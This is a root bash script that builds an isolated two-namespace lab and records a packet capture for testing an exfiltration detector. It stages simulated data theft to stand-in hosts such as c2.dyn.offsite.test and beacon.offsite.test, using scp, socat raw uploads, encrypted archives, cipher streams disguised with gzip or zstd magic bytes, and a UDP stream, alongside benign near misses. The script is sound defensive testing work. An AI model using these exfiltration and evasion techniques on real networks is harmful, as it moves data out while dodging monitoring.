#!/usr/bin/env bash
# Records pcaps/outflow-evasion.pcap, the evasion lab (issue 15): real
# programs other than the detection lab's moving data out the ways an
# intruder would (scp, sftp and rsync over ssh, lftp over FTP, stunnel4
# wrapping a raw upload, encrypted archives from 7z, gpg, age, openssl and
# zip sent raw, cipher streams behind a gzip or zstd magic, a one-way UDP
# cipher stream), and near misses beside them (real gzip, zstd, xz and zip
# uploads, a large download, a git clone, an interactive ssh session, a
# transfer whose segments a qdisc reorders). `outflow live --on-host` runs
# in the client's namespace meanwhile and writes what it attributed from
# /proc to outflow-evasion.events.jsonl. What the programs reported goes
# to reported/evasion-*; evasion-expected.tsv says what replay must raise.
#
# Run as root, by hand: sudo bash pcaps/record-evasion.sh
# Needs (Debian): tcpdump tshark curl wget openssl socat python3 iproute2
# ethtool tar gzip zstd xz-utils zip p7zip-full gnupg age git rsync lftp
# openssh-server openssh-client vsftpd stunnel4, and Go (builds outflow
# from this tree). Only the two namespaces' addresses are ever contacted.
# Re-runnable: it removes what an earlier, interrupted run left.
set -euo pipefail
cd "$(dirname "$0")"
here=$(pwd)
. ./lib.sh

C=of-eva-client S=of-eva-server
CDEV=of-eva-c SDEV=of-eva-s
CLIENT=10.77.0.2 SERVER=198.51.100.10
OFF=offsite.test D=example-storage.test
out=$here/outflow-evasion.pcap events=$here/outflow-evasion.events.jsonl rep=$here/reported
begin $C $S

need tcpdump tshark curl wget openssl socat python3 ip tc ethtool tar gzip zstd xz zip 7z gpg age age-keygen \
  git rsync lftp ssh scp sftp ssh-keygen /usr/sbin/sshd /usr/sbin/vsftpd stunnel4 go
(cd .. && go build -o "$work/outflow" ./cmd/outflow)

two_hosts $C $S $CDEV $SDEV $CLIENT $SERVER
mkdir -p /etc/netns/$C
echo "nameserver $SERVER" > /etc/netns/$C/resolv.conf
printf '127.0.0.1 localhost\n' > /etc/netns/$C/hosts

# Content. Random files stand for documents that do not compress; text
# (from a small vocabulary, so it compresses as prose does) for reports.
mkdir -p "$work"/{www,tls,docs,notes,recv,srv,ftp/upload,ssh,gnupg}
python3 - "$work" <<'PY'
import os, random, sys
w = sys.argv[1]
rnd = random.Random(15)
words = "the quick brown fox jumps over a lazy dog while quarterly report figures load net margin region".split()
def text(n):
    out, size = [], 0
    while size < n:
        l = " ".join(rnd.choice(words) for _ in range(12)) + "\n"
        out.append(l); size += len(l)
    return "".join(out).encode()[:n]
for i in range(6):
    open(f"{w}/docs/contract-{i}.pdf", "wb").write(os.urandom(64 << 10))
open(f"{w}/dump.bin", "wb").write(os.urandom(384 << 10))
open(f"{w}/db.bin", "wb").write(os.urandom(384 << 10))
open(f"{w}/tunnel.bin", "wb").write(os.urandom(384 << 10))
for i in range(4):
    open(f"{w}/notes/minutes-{i}.txt", "wb").write(text(75000))
open(f"{w}/notes.txt", "wb").write(text(150000))
open(f"{w}/report.txt", "wb").write(text(500000))
open(f"{w}/sales.csv", "wb").write(text(450000).replace(b" ", b","))
# Cipher streams that open with a compressor's magic and nothing after it.
open(f"{w}/magic-gzip.bin", "wb").write(b"\x1f\x8b\x08\x00" + os.urandom(192 << 10))
open(f"{w}/magic-zstd.bin", "wb").write(b"\x28\xb5\x2f\xfd" + os.urandom(192 << 10))
open(f"{w}/udp.bin", "wb").write(os.urandom(200 << 10))
PY
# The uploads' archives and the near misses' real compressed files, made
# by the tools themselves.
tar cf "$work/contracts.tar" -C "$work" docs
mkdir -p "$work/records"
head -c $((384 << 10)) /dev/urandom > "$work/records/scan-0001.tif"
tar czf "$work/records.tar.gz" -C "$work" records
gzip -9 -c "$work/report.txt" > "$work/report.txt.gz"
zstd -q -19 -c "$work/report.txt" > "$work/report.txt.zst"
xz -9 -c "$work/report.txt" > "$work/report.txt.xz"
(cd "$work" && zip -q -9 report.zip report.txt)
gzip -9 -c "$work/sales.csv" > "$work/sales.csv.gz"
GOSRC=$(go env GOROOT)/src
tar cf - -C "$GOSRC" cmd/compile | xz -6 -T1 > "$work/www/compile-src.tar.xz"
tar czf "$work/gosrc.tar.gz" -C "$GOSRC" go/doc go/printer go/parser
# The reordered near miss must stay under the lab's 256 KiB AN1512 threshold.
[ "$(stat -c %s "$work/gosrc.tar.gz")" -lt $((256 << 10)) ] || { echo "gosrc.tar.gz is over 256 KiB" >&2; exit 1; }
# The encrypted archives, each as its tool makes it.
(cd "$work" && 7z a -bd -p'outflow-lab' -mhe=on notes.7z notes >/dev/null)
GNUPGHOME=$work/gnupg gpg --batch --quiet --pinentry-mode loopback --passphrase outflow-lab -c \
  -o "$work/notes.txt.gpg" "$work/notes.txt"
age-keygen -o "$work/age.key" 2>/dev/null
age -r "$(age-keygen -y "$work/age.key")" -o "$work/notes.txt.age" "$work/notes.txt"
openssl enc -aes-256-cbc -pbkdf2 -pass pass:outflow-lab -in "$work/notes.txt" -out "$work/notes.txt.enc"
(cd "$work" && zip -q -r -P outflow-lab notes.zip notes)

san=""
for n in relay.$OFF files.$D www.$D; do san="$san,DNS:$n"; done
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=relay.$OFF" -addext "subjectAltName=${san#,}" \
  -keyout "$work/tls/server.key" -out "$work/tls/server.crt" >/dev/null 2>&1

# The server's programs: Debian's sshd, vsftpd and stunnel4, the shared
# DNS/HTTP/sink servers, socat receivers.
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh/host_ed25519"
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh/id_ed25519"
cp "$work/ssh/id_ed25519.pub" "$work/ssh/authorized_keys"
cat > "$work/ssh/sshd_config" <<EOF
ListenAddress $SERVER
HostKey $work/ssh/host_ed25519
PidFile none
UsePAM no
PermitRootLogin prohibit-password
AuthorizedKeysFile $work/ssh/authorized_keys
StrictModes no
PasswordAuthentication no
KbdInteractiveAuthentication no
UseDNS no
PrintMotd no
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
cat > "$work/ssh/config" <<EOF
Host *
  User root
  IdentityFile $work/ssh/id_ed25519
  IdentitiesOnly yes
  UserKnownHostsFile $work/ssh/known_hosts
  StrictHostKeyChecking no
  BatchMode yes
  ControlPath none
EOF
chmod 600 "$work/ssh/"*
mkdir -p /run/sshd # sshd's privilege-separation directory

chown ftp "$work/ftp/upload"
chmod 755 "$work" "$work/ftp"
cat > "$work/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$SERVER
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_root=$work/ftp
no_anon_password=YES
pasv_enable=YES
pasv_min_port=30021
pasv_max_port=30021
pasv_address=$SERVER
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
xferlog_enable=YES
xferlog_std_format=YES
xferlog_file=$work/vsftpd-xfer.log
EOF
cat > "$work/stunnel-server.conf" <<EOF
foreground = yes
pid =
[relay]
accept = $SERVER:8443
connect = $SERVER:9443
cert = $work/tls/server.crt
key = $work/tls/server.key
EOF
cat > "$work/stunnel-client.conf" <<EOF
foreground = yes
pid =
[relay]
client = yes
accept = 127.0.0.1:17001
connect = relay.$OFF:8443
delay = yes
verifyChain = no
EOF

# A bare repository to clone: Go's text packages, committed once.
git init -q --bare "$work/srv/repo.git"
git init -q "$work/repo-src"
cp -r "$GOSRC/text" "$work/repo-src/"
git -C "$work/repo-src" add -A
git -C "$work/repo-src" -c user.name=lab -c user.email=lab@example-storage.test commit -q -m "import text packages"
git -C "$work/repo-src" push -q "$work/srv/repo.git" HEAD:refs/heads/main
git -C "$work/srv/repo.git" symbolic-ref HEAD refs/heads/main

rm -f "$out" "$events" "$rep"/evasion-*
s() { ip netns exec $S "$@"; }
c() { ip netns exec $C timeout 60 "$@"; }
s python3 "$here/tools/servers.py" $SERVER "$work/www" "$work/tls" "$rep/evasion-servers.jsonl" > "$work/servers.out" 2>&1 &
pids+=($!)
s /usr/sbin/sshd -D -e -f "$work/ssh/sshd_config" 2> "$work/sshd.log" &
pids+=($!)
s /usr/sbin/vsftpd "$work/vsftpd.conf" > "$work/vsftpd.out" 2>&1 &
pids+=($!)
s stunnel4 "$work/stunnel-server.conf" > "$work/stunnel-server.log" 2>&1 &
pids+=($!)
# One-shot raw receivers, one port each: 9401-9407 the encrypted streams,
# 9411-9414 the compressed near misses, 9550 the reordered transfer.
for p in 9401 9402 9403 9404 9405 9406 9407 9411 9412 9413 9414 9550; do
  s socat -d -d -d -u "TCP-LISTEN:$p,bind=$SERVER,reuseaddr" "OPEN:$work/recv/$p.bin,creat,trunc" 2> "$work/recv/$p.log" &
  pids+=($!)
done
s socat -d -d -d -u "UDP-RECV:9999,bind=$SERVER" "OPEN:$work/recv/9999.bin,creat,trunc" 2> "$work/recv/9999.log" &
pids+=($!)
udp_rx=$!
for _ in $(seq 50); do grep -q ready "$work/servers.out" 2>/dev/null && break; sleep 0.1; done
grep -q ready "$work/servers.out" || { cat "$work/servers.out" >&2; exit 1; }
sleep 1

ip netns exec $C tcpdump -i $CDEV -s 0 -U -w "$out" --time-stamp-precision=nano >"$work/tcpdump.out" 2>&1 &
pids+=($!)
tcpdump_pid=$!
ip netns exec $C "$work/outflow" live --on-host -i $CDEV --flows "$work/live-flows.jsonl" --host-events-out "$events" \
  > "$work/live.out" 2>&1 &
pids+=($!)
live_pid=$!
for _ in $(seq 50); do grep -q capturing "$work/live.out" 2>/dev/null && break; sleep 0.1; done
sleep 1

SSH="ssh -v -F $work/ssh/config"
# socat connects at once and then waits for its input, so the connection
# outlives the moment the on-host watcher looks for its socket.
paced() { sleep 0.3; cat "$1"; }
raw() { # file, name, port, source port: socat sends the file raw, counting what it moved
  paced "$1" | c socat -d -d -d -u - "TCP:$2:$3,sourceport=$4" 2> "$work/socat-$3.log"
  sleep 0.5
}

# Positives.
# 1-3. scp, sftp and rsync upload over ssh (the ssh each forks owns the
#      socket). ssh -v reports the bytes it moved.
c scp -v -F "$work/ssh/config" "$work/contracts.tar" "vault.$OFF:$work/srv/" 2> "$work/ssh-scp.log"
sleep 0.5
echo "put $work/dump.bin $work/srv/dump.bin" > "$work/sftp.batch"
c sftp -v -F "$work/ssh/config" -b "$work/sftp.batch" "sftp.$OFF" > /dev/null 2> "$work/ssh-sftp.log"
sleep 0.5
c rsync --stats -e "$SSH" "$work/db.bin" "mirror.$OFF:$work/srv/" > "$work/rsync-stats.txt" 2> "$work/ssh-rsync.log"
sleep 0.5
# 4. lftp puts an archive over FTP (passive data connection to port 30021).
#    At 200 kB/s, a real uplink's pace, the data connection lasts about two
#    seconds: over the veth it would end within milliseconds, before the
#    on-host watcher reads its socket (README: such connections can be missed).
c lftp -c "set ftp:ssl-allow no; set ftp:passive-mode on; set net:limit-rate 200000; set cmd:verbose on; open -u anonymous,lab ftp://ftp.$OFF; cd upload; put $work/records.tar.gz" \
  > "$work/lftp.out" 2>&1
sleep 0.5
# 5. stunnel4 wraps a raw upload in TLS: socat hands it 384 KiB on
#    loopback, stunnel4 carries it to relay.offsite.test:8443, whose
#    stunnel4 passes it to the servers' sink.
ip netns exec $C stunnel4 "$work/stunnel-client.conf" > "$work/stunnel-client.log" 2>&1 &
pids+=($!)
stunnel_pid=$!
for _ in $(seq 50); do ip netns exec $C ss -ltn | grep -q 127.0.0.1:17001 && break; sleep 0.1; done
sleep 0.5
paced "$work/tunnel.bin" | c socat -d -d -d -u - TCP:127.0.0.1:17001 2> "$work/socat-stunnel.log"
sleep 1
kill $stunnel_pid 2>/dev/null || true
# 6-10. Encrypted archives sent raw, each to a port of its own.
raw "$work/notes.7z" sevenzip.$OFF 9401 15401
raw "$work/notes.txt.gpg" gpg.$OFF 9402 15402
raw "$work/notes.txt.age" age.$OFF 9403 15403
raw "$work/notes.txt.enc" enc.$OFF 9404 15404
raw "$work/notes.zip" zipcrypto.$OFF 9405 15405
# 11-12. Cipher streams behind a compressor's magic.
raw "$work/magic-gzip.bin" c2.dyn.$OFF 9406 15406
raw "$work/magic-zstd.bin" sync.$OFF 9407 15407
# 13. One-way UDP: socat sends 1400-byte datagrams; the first goes alone
#     (the watcher finds the socket), the rest paced so the receiver keeps up.
python3 - "$work/udp.bin" <<'PY' | c socat -d -d -d -b 1400 -u - "UDP:beacon.$OFF:9999,sourceport=15499" 2> "$work/socat-9999.log"
import os, sys, time
b = open(sys.argv[1], "rb").read()
time.sleep(0.3)
for i in range(0, len(b), 1400):
    os.write(1, b[i:i + 1400])
    time.sleep(0.002 if i else 0.5)
PY
sleep 0.5

# Near misses.
# a. Real compressed files sent raw.
raw "$work/report.txt.gz" gz.$D 9411 15411
raw "$work/report.txt.zst" zst.$D 9412 15412
raw "$work/report.txt.xz" xz.$D 9413 15413
raw "$work/report.zip" zip.$D 9414 15414
# b. curl POSTs a real .csv.gz over HTTP.
c curl -sS -o /dev/null -w '%{json}\n' -H 'Content-Type: application/gzip' --data-binary "@$work/sales.csv.gz" \
  "http://www.$D/upload/sales.csv.gz" > "$rep/evasion-curl-post-gzip.json"
sleep 0.5
# c. wget downloads a 2 MB .tar.xz over HTTP.
c wget -S -O "$work/compile-src.tar.xz" "http://files.$D/compile-src.tar.xz" 2> "$work/wget.log"
sleep 0.5
# d. git clone over ssh.
c env GIT_SSH_COMMAND="$SSH" git clone -q "git.$D:$work/srv/repo.git" "$work/clone" 2> "$work/ssh-git.log"
sleep 0.5
# e. An interactive session: ssh -tt, commands typed a key at a time.
python3 - <<'PY' | c ssh -v -tt -F "$work/ssh/config" "shell.example-storage.test" > "$work/ssh-shell.out" 2> "$work/ssh-shell.log"
import os, time
time.sleep(1.5)
for cmd in ["uname -a", "id", "ls /", "df -h /tmp | tail -1", "exit"]:
    for ch in cmd + "\n":
        os.write(1, ch.encode())
        time.sleep(0.08)
    time.sleep(0.7)
PY
sleep 0.5
# f. A transfer whose segments arrive reordered. Debian's kernel has
#    netem; where it is missing (this container's kernel has no sch_netem)
#    an HTB qdisc with a slow class and a u32 filter on one bit of the IP
#    ID (Linux numbers a connection's packets in turn) does the same: segments in the slow class fall behind
#    the ones after them.
if ip netns exec $C tc qdisc add dev $CDEV root netem delay 2ms reorder 25% 50% 2>/dev/null; then
  reorder_by="netem delay 2ms reorder 25% 50%"
else
  ip netns exec $C tc qdisc add dev $CDEV root handle 1: htb default 10
  ip netns exec $C tc class add dev $CDEV parent 1: classid 1:10 htb rate 1gbit
  ip netns exec $C tc class add dev $CDEV parent 1: classid 1:20 htb rate 20mbit ceil 20mbit
  ip netns exec $C tc filter add dev $CDEV parent 1: protocol ip prio 1 u32 \
    match ip dport 9550 0xffff match u16 0x0002 0x0002 at 4 flowid 1:20
  reorder_by="htb: segments to port 9550 whose IP ID has bit 1 set (every other pair) go through a 20 Mbit/s class"
fi
raw "$work/gosrc.tar.gz" reorder.$D 9550 15550
ip netns exec $C tc -s class show dev $CDEV > "$work/tc-classes.txt" 2>&1 || true
ip netns exec $C tc qdisc del dev $CDEV root
sleep 2

kill -INT $live_pid
wait $live_pid || true
kill $tcpdump_pid 2>/dev/null || true
kill $udp_rx 2>/dev/null || true
sleep 0.5

# What the programs reported.
cp "$work/live.out" "$rep/evasion-live-summary.txt"
for f in scp sftp rsync git shell; do
  grep -E "Local version string|Remote protocol version|kex: (server->client|client->server) cipher|Transferred: sent|Authenticated to|Connecting to" \
    "$work/ssh-$f.log" > "$rep/evasion-ssh-$f.txt" || true
done
cp "$work/rsync-stats.txt" "$rep/evasion-rsync-stats.txt"
cp "$work/lftp.out" "$rep/evasion-lftp.txt"
cp "$work/vsftpd-xfer.log" "$rep/evasion-vsftpd-xferlog.txt" 2>/dev/null || true
grep -E "Accepted|Received disconnect|Disconnected" "$work/sshd.log" > "$rep/evasion-sshd.txt" || true
head -20 "$work/wget.log" > "$rep/evasion-wget.txt"
transferred() { awk '/ transferred [0-9]+ bytes/ { for (i = 1; i < NF; i++) if ($i == "transferred") n += $(i + 1) } END { print n + 0 }' "$1"; }
{
  for p in 9401 9402 9403 9404 9405 9406 9407 9999 9411 9412 9413 9414 9550; do
    printf '{"port": %d, "socat_sent": %d, "receiver_transferred": %d, "receiver_file_bytes": %d}\n' $p \
      "$(transferred "$work/socat-$p.log")" "$(transferred "$work/recv/$p.log")" "$(stat -c %s "$work/recv/$p.bin")"
  done
} > "$rep/evasion-socat.jsonl"
{
  for f in contracts.tar dump.bin db.bin records.tar.gz tunnel.bin notes.7z notes.txt.gpg notes.txt.age notes.txt.enc \
    notes.zip magic-gzip.bin magic-zstd.bin udp.bin report.txt.gz report.txt.zst report.txt.xz report.zip sales.csv.gz \
    www/compile-src.tar.xz gosrc.tar.gz; do
    printf '%s\t%d\n' "$(basename "$f")" "$(stat -c %s "$work/$f")"
  done
  for f in srv/contracts.tar srv/dump.bin srv/db.bin ftp/upload/records.tar.gz clone/.git; do
    printf 'server:%s\t%s\n' "$f" "$(du -sb "$work/$f" | cut -f1)"
  done
} > "$rep/evasion-file-sizes.tsv"
printf '{"socat_sent": %d, "sink": "evasion-servers.jsonl, the line of server sink"}\n' \
  "$(transferred "$work/socat-stunnel.log")" > "$rep/evasion-socat-stunnel.json"
# The reordered transfer: how, the qdisc's own counts, and tshark's view of
# the capture (its analysis flags, and the data segments whose sequence
# number is below one sent before them: the reordering itself).
{
  echo "reordered by $reorder_by"
  cat "$work/tc-classes.txt"
  printf 'tshark out_of_order\t%s\n' "$(tshark -r "$out" -Y 'tcp.port == 9550 && tcp.analysis.out_of_order' 2>/dev/null | wc -l)"
  printf 'tshark retransmission\t%s\n' "$(tshark -r "$out" -Y 'tcp.port == 9550 && tcp.analysis.retransmission' 2>/dev/null | wc -l)"
  printf 'tshark lost_segment\t%s\n' "$(tshark -r "$out" -Y 'tcp.port == 9550 && tcp.analysis.lost_segment' 2>/dev/null | wc -l)"
  printf 'segments below an earlier sequence number\t%s\n' "$(tshark -r "$out" -Y 'tcp.dstport == 9550 && tcp.len > 0' \
    -T fields -e tcp.seq_raw 2>/dev/null | awk 'NR > 1 && $1 < max { n++ } $1 > max { max = $1 } END { print n + 0 }')"
} > "$rep/evasion-reorder.txt"
grep -q "earlier sequence number.[1-9]" "$rep/evasion-reorder.txt" || { echo "the qdisc reordered nothing: record again" >&2; exit 1; }
tshark -r "$out" -q -z conv,tcp -z conv,udp > "$rep/evasion-tshark-conv.txt" 2>/dev/null || true
# tshark's payload of each ssh session, per direction: its highest
# relative next sequence number over the data segments, less the SYN's 1.
tshark -r "$out" -Y 'tcp.port == 22 && tcp.len > 0' -T fields -e tcp.srcport -e tcp.dstport -e tcp.nxtseq 2>/dev/null |
  awk -F'\t' '{ k = $1 "\t" $2; if ($3 > m[k]) m[k] = $3 } END { for (k in m) print k "\t" m[k] - 1 }' |
  sort -n > "$rep/evasion-tshark-ssh-payload.tsv"
ls -l "$out" "$events"
echo "recorded $out and $events; program reports in $rep"
